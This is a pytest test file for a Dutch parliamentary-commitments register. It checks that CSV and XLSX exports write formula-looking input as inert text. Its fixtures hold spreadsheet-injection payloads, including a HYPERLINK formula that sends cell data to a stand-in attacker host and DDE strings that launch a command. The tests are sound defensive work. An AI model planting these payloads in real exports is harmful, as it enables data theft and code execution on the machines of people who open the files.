"""No export carries a live formula (issue 16, item 1): text that a spreadsheet would read as a
formula, arriving by the register's form or by the House's import, is written as text.

Every file is read back as a spreadsheet program would: CSV with the csv module, XLSX with
openpyxl, whose `data_type` "f" is a formula.
"""

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse

from workflow.models import Motie, Toezegging
from workflow.spreadsheets import FORMULA_STARTS
from workflow.tk_import import import_file
from workflow.woo import Inventarisregel, inventory_csv

DATA = Path(__file__).parent / "data" / "tk"

BY_FORM = '=HYPERLINK("https://aanvaller.example/?d="&A1;"Klik hier")'
BY_FORM_DEBAT = "@SUM(1+1)*cmd|' /C calc'!A0"
BY_IMPORT = "+cmd|' /C calc'!A0 zegt toe"
BY_IMPORT_MOTIE = "-2+3+cmd|' /C calc'!A0"
BY_IMPORT_INDIENER = "=1+1"
HARMLESS_DASH = "- punt één van de toezegging"


@pytest.fixture
def keeper(client, people):
    client.force_login(people["parlementair"])
    return client


@pytest.fixture
def hostile_register(keeper, posts, tmp_path):
    """Hostile text by the register keeper's form, and by import_tk."""
    response = keeper.post(
        reverse("toezegging_create"),
        {"tekst": BY_FORM, "bewindspersoon": posts["StasVWS"].pk, "bron": "debat",
         "debat": BY_FORM_DEBAT, "debat_datum": "2023-02-08", "soort": "eenmalig",
         "deadline": "2023-06-30", "notities": HARMLESS_DASH},
        follow=True,
    )  # fmt: skip
    assert "De toezegging staat in het register." in response.content.decode()

    toezegging = json.loads((DATA / "toezegging_enkel.json").read_text())
    toezegging["Tekst"] = BY_IMPORT
    motie = json.loads((DATA / "moties.json").read_text())["value"][0]
    motie["Titel"] = BY_IMPORT_MOTIE
    motie["Onderwerp"] = BY_IMPORT_MOTIE
    motie["ZaakActor"][0]["ActorNaam"] = BY_IMPORT_INDIENER
    for name, record in (("t.json", toezegging), ("m.json", motie)):
        (tmp_path / name).write_text(json.dumps(record))
        rapport = import_file(tmp_path / name)
        assert (rapport.fout, rapport.afgewezen, rapport.aangemaakt) == ("", [], 1)
    assert Toezegging.objects.filter(tekst__in=[BY_FORM, BY_IMPORT]).count() == 2
    assert Motie.objects.filter(titel=BY_IMPORT_MOTIE).exists()


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("toezeggingen", [BY_FORM, BY_FORM_DEBAT, BY_IMPORT, HARMLESS_DASH]),
        ("moties", [BY_IMPORT_MOTIE]),
    ],
)
def test_the_csv_exports_write_formulas_as_text(keeper, hostile_register, kind, expected):
    response = keeper.get(reverse("register_export", args=[kind, "csv"]))
    rows = csv_cells(response.content)
    assert_no_formula_in_csv(rows)
    cells = {cell for row in rows for cell in row}
    # Neutralised with the text marker, the text itself still readable.
    for text in expected:  # the debate's cell adds its date
        assert any(cell.startswith("'" + text) for cell in cells), text
    if kind == "moties":
        assert any(cell.startswith("'=1+1") for cell in cells)  # the indiener, from the import


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("toezeggingen", [BY_FORM, BY_FORM_DEBAT, BY_IMPORT, HARMLESS_DASH]),
        ("moties", [BY_IMPORT_MOTIE]),
    ],
)
def test_the_xlsx_exports_hold_no_formula(keeper, hostile_register, kind, expected):
    from openpyxl import load_workbook

    response = keeper.get(reverse("register_export", args=[kind, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if c.data_type == "s"]
    for text in expected:  # as it was typed: a string cell is never evaluated
        assert any(value.startswith(text) for value in texts), text
    dates = [c for c in cells if c.is_date]
    assert dates, "dates stay real dates"


def test_the_woo_inventory_writes_formulas_as_text():
    regels = [
        Inventarisregel(1, BY_FORM, "01 Nota.pdf", date(2023, 11, 30), "openbaar"),
        Inventarisregel(2, "Bijlage 1", "02 Bijlage.pdf", None, "openbaar",
                        opmerking="\t=1+1"),
        Inventarisregel(3, "@SUM(A1)", "03 Bijlage.pdf", None, "openbaar",
                        opmerking="\r=1+1"),
    ]  # fmt: skip
    rows = csv_cells(inventory_csv(regels))
    assert_no_formula_in_csv(rows)
    assert rows[1][:4] == ["1", "'" + BY_FORM, "01 Nota.pdf", "30-11-2023"]
    assert (rows[2][6], rows[3][1], rows[3][6]) == ("'\t=1+1", "'@SUM(A1)", "'\r=1+1")
